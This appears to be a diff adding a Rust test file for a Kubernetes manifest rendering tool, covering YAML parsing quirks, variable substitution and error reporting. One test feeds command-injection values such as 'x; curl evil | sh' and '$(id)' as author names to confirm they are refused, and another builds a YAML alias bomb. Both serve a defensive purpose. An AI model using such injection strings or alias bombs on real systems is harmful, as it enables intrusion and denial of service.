@@ -1,0 +1,232 @@
+//! The dialect as a whole: a team's folder with every oddity that such folders have.
+
+mod properties;
+
+use std::path::Path;
+
+use serde_json::{Value, json};
+
+use super::*;
+
+fn render_input(files: &SourceFiles, input: &VariableInput) -> Result<Rendered, Vec<Finding>> {
+    render(files, &Variables::new(input.clone()), &examples::policy(input))
+}
+
+fn preview(text: &str) -> Result<Rendered, Vec<Finding>> {
+    render_input(&examples::file(text), &examples::preview())
+}
+
+/// The `data` of an object that may hold anything there.
+fn data(lines: &str) -> Value {
+    let text = format!("apiVersion: v1\nkind: LimitRange\nmetadata: {{name: x}}\ndata:\n{lines}");
+    let rendered = preview(&text).unwrap();
+    rendered.objects().next().unwrap().document["data"].clone()
+}
+
+fn messages(result: Result<Rendered, Vec<Finding>>) -> Vec<String> {
+    result.unwrap_err().iter().map(ToString::to_string).collect()
+}
+
+fn oddities() -> SourceFiles {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/manifests/fixtures/oddities");
+    SourceFiles::read(&folder, "oddities").unwrap()
+}
+
+/// What people see: the notes, and each stage's objects as they are applied.
+fn report(rendered: &Rendered) -> Value {
+    let stages: Vec<Vec<&Value>> =
+        rendered.stages.iter().map(|stage| stage.iter().map(|object| &object.document).collect()).collect();
+    let notes: Vec<String> = rendered.notes.iter().map(ToString::to_string).collect();
+    json!({"notes": notes, "stages": stages})
+}
+
+#[test]
+fn a_folder_with_every_oddity_is_taken_as_it_is() {
+    // Another crate of the build may make serde_json keep the order of keys.
+    insta::with_settings!({sort_maps => true}, {
+        let rendered = render_input(&oddities(), &examples::preview()).unwrap();
+        insta::assert_yaml_snapshot!("oddities_preview", report(&rendered));
+        let rendered = render_input(&oddities(), &examples::production()).unwrap();
+        insta::assert_yaml_snapshot!("oddities_production", report(&rendered));
+    });
+}
+
+#[test]
+fn line_ends_of_windows_change_nothing() {
+    let unix = oddities();
+    assert!(unix.all().iter().any(|file| file.text.contains("\r\n")), "the fixture must keep its line ends");
+    let windows = unix
+        .all()
+        .iter()
+        .map(|file| SourceFile { text: file.text.replace("\r\n", "\n").replace('\n', "\r\n"), ..file.clone() });
+    let windows = SourceFiles::new(windows.collect());
+    let input = examples::preview();
+    assert_eq!(render_input(&unix, &input), render_input(&windows, &input));
+}
+
+#[test]
+fn a_byte_order_mark_is_no_part_of_the_text() {
+    assert!(preview("\u{feff}apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: x}\n").is_ok());
+}
+
+#[test]
+fn a_number_is_written_as_a_variable_only_where_it_stands_alone() {
+    assert_eq!(
+        data(concat!(
+            "  plain: $KUBE_DEPLOY_ID\n",
+            "  braced: ${PR_NUMBER}\n",
+            "  quoted: \"$KUBE_DEPLOY_ID\"\n",
+            "  text: pr-$PR_NUMBER\n",
+            "  twice: $PR_NUMBER$PR_NUMBER\n",
+            "  commit: $GITHUB_SHA\n",
+            "  tagged: !!str $PR_NUMBER\n",
+        )),
+        json!({
+            "plain": 20_000_000,
+            "braced": 123,
+            "quoted": "20000000",
+            "text": "pr-123",
+            "twice": "123123",
+            "commit": "12345678",
+            "tagged": "123",
+        })
+    );
+}
+
+#[test]
+fn quotes_keep_a_text_a_text() {
+    assert_eq!(
+        data("  a: 'true'\n  b: \"0644\"\n  c: |\n    123\n  d: yes\n  e: 0644\n  f: !!str yes\n  on: x\n"),
+        json!({"a": "true", "b": "0644", "c": "123\n", "d": true, "e": 420, "f": "yes", "on": "x"})
+    );
+}
+
+#[test]
+fn merge_keys_give_way_to_what_is_written_out() {
+    let text = concat!(
+        "  one: &one {a: 1, b: 1}\n",
+        "  two: &two {b: 2, c: 2}\n",
+        "  all: {<<: [*one, *two], a: 0}\n",
+        "  text: {\"<<\": x}\n",
+    );
+    let data = data(text);
+    assert_eq!(data["all"], json!({"a": 0, "b": 1, "c": 2}));
+    assert_eq!(data["text"], json!({"<<": "x"}));
+}
+
+#[test]
+fn a_key_that_is_there_twice_is_refused_however_it_came() {
+    let text = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  pr-123: a\n  $KUBE_NS: b\n";
+    assert_eq!(messages(preview(text)), ["web/core/app.yaml:6: data.pr-123: is there twice"]);
+}
+
+#[test]
+fn an_unknown_reserved_name_is_an_error_but_in_a_script() {
+    let text = concat!(
+        "apiVersion: batch/v1\nkind: Job\nmetadata: {name: x}\n",
+        "spec: {template: {spec: {containers: [{name: x,\n",
+        "  image: $KUBE_DEPLOYMENT_IMAG,\n",
+        "  args: ['echo $KUBE_MINE $DOPPLER_MINE'],\n",
+        "  env: [{name: A, value: $MINE}]}]}}}\n",
+    );
+    let messages = messages(preview(text));
+    for (message, expected) in messages.iter().zip([
+        "web/core/app.yaml:5: spec.template.spec.containers[0].image: `$KUBE_DEPLOYMENT_IMAG` is not a variable here: \
+         the nearest name that is known is `$KUBE_DEPLOYMENT_IMAGE`",
+        "web/core/app.yaml:6: warning: spec.template.spec.containers[0].args[0]: `$KUBE_MINE` is not",
+        "web/core/app.yaml:6: warning: spec.template.spec.containers[0].args[0]: `$DOPPLER_MINE` is not",
+    ]) {
+        assert!(message.starts_with(expected), "{message}");
+    }
+    assert_eq!(messages.len(), 3, "{messages:#?}");
+}
+
+#[test]
+fn a_claim_from_outside_never_becomes_a_command() {
+    let mut input = examples::preview();
+    let files = examples::file(concat!(
+        "apiVersion: batch/v1\nkind: Job\nmetadata: {name: x}\nspec: {template: {spec: {containers: [{name: x,\n",
+        "  command: [sh, -c, 'echo $GITHUB_ACTOR'],\n",
+        "  env: [{name: ACTOR, value: $GITHUB_ACTOR}]}]}}}\n",
+    ));
+    for author in ["octocat", "dependabot[bot]"] {
+        input.author = author.to_owned();
+        assert!(render_input(&files, &input).is_ok());
+    }
+    for author in ["x; curl evil | sh", "$(id)", "a\nb", "`id`", "a b", "a>b"] {
+        input.author = author.to_owned();
+        let messages = messages(render_input(&files, &input));
+        assert!(messages[0].starts_with("web/core/app.yaml:5: spec.template.spec.containers[0].command[2]: the value"));
+        assert_eq!(messages.len(), 1);
+    }
+}
+
+#[test]
+fn no_more_is_shown_than_a_person_reads() {
+    let text = "apiVersion: v1\nkind: Pod\nmetadata: {name: x}\n---\n".repeat(900);
+    let messages = messages(preview(&text));
+    assert_eq!(messages.len(), 201);
+    assert_eq!(messages[200], "and 700 more");
+}
+
+#[test]
+fn a_name_that_this_app_has_not_says_what_is_missing() {
+    let mut input = examples::preview();
+    input.doppler_managed_secret = None;
+    let files = examples::file("apiVersion: v1\nkind: Secret\nmetadata:\n  name: $DOPPLER_MANAGED_SECRET_NAME\n");
+    let messages = messages(render_input(&files, &input));
+    assert!(messages[0].contains("the app file gives no `secrets`"), "{messages:?}");
+}
+
+#[test]
+fn every_error_of_every_file_is_shown_at_once() {
+    let text = "a: [\n---\nkind: Pod\napiVersion: v1\nmetadata: {name: a}\n---\n- 1\n---\nb: \"\n";
+    let messages = messages(preview(text));
+    assert_eq!(messages.len(), 4, "{messages:#?}");
+}
+
+#[test]
+fn an_alias_bomb_is_refused_in_no_time() {
+    let mut text = String::from("a0: &a0 [xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx]\n");
+    for level in 1..30 {
+        let aliases = vec![format!("*a{}", level - 1); 10].join(", ");
+        text.push_str(&format!("a{level}: &a{level} [{aliases}]\n"));
+    }
+    let messages = messages(preview(&text));
+    assert!(messages[0].contains("with its aliases expanded"), "{messages:?}");
+}
+
+#[test]
+fn lists_are_taken_apart_whatever_they_call_themselves() {
+    let text = concat!(
+        "apiVersion: v1\nkind: List\nitems:\n",
+        "- {apiVersion: v1, kind: Service, metadata: {name: a}}\n",
+        "- apiVersion: apps/v1\n  kind: DeploymentList\n  items:\n  - metadata: {name: b}\n",
+        "- {apiVersion: v1, kind: Pod, metadata: {name: c}}\n",
+    );
+    let messages = messages(preview(text));
+    assert_eq!(messages.len(), 1);
+    assert!(messages[0].starts_with("web/core/app.yaml:9: items[2].kind: a Pod may not be"), "{messages:?}");
+    let rendered = preview(&text.replace("kind: Pod", "kind: Secret")).unwrap();
+    let names: Vec<_> = rendered.objects().map(Object::name).collect();
+    assert_eq!(names, ["a", "c", "b"]);
+}
+
+#[test]
+fn an_object_that_is_written_twice_ends_as_the_last_one() {
+    let object =
+        |value: &str| format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: x}}\ndata: {{a: {value}}}\n");
+    let rendered = preview(&format!("{}---\n{}", object("first"), object("last"))).unwrap();
+    assert_eq!(rendered.objects().map(|object| &object.document["data"]["a"]).collect::<Vec<_>>(), ["last"]);
+    assert_eq!(rendered.notes.len(), 1);
+}
+
+#[test]
+fn the_content_hash_changes_with_every_part() {
+    let files = examples::file("a: 1");
+    let hash = content_hash(b"app", &files);
+    assert_eq!(hash, content_hash(b"app", &examples::file("a: 1")));
+    assert_eq!(hash.len(), 64);
+    assert_ne!(hash, content_hash(b"app2", &files));
+    assert_ne!(hash, content_hash(b"app", &examples::file("a: 2")));
+}
